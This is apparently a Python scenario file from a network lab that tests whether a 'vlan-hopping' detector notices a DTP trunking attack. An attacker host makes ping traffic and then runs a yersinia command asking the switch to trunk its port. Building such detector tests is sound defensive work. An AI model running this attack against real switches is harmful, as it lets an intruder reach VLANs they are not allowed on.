"""yersinia asks a switch by DTP to make its port a trunk."""

from lab.range import Range
from lab.scenario import Scenario


def run(net: Range) -> None:
    attacker = net.inside("attacker")
    net.everyday()
    net.loop(attacker, "ping -n -q -c 1 -W 1 10.20.0.10", 1.0)
    net.quiet(2)
    with net.attack(
        "vlan-hopping",
        by=attacker,
        attackers=[attacker.mac],
        victims=[],  # the switch, which has no address here: a group is nobody
        frames="ether dst 01:00:0c:cc:cc:cc",
    ):
        net.tool(attacker, "sh", "-c", "sleep 20 | yersinia dtp -attack 1 -M -interface eth0", seconds=25)
    net.quiet(2)


SCENARIO = Scenario(
    name="vlan-hopping-dtp",
    about="yersinia asks the switch by DTP for a trunk, from a host that has ordinary traffic.",
    detectors=("vlan-hopping",),
    tools={"yersinia": "yersinia"},
    run=run,
)
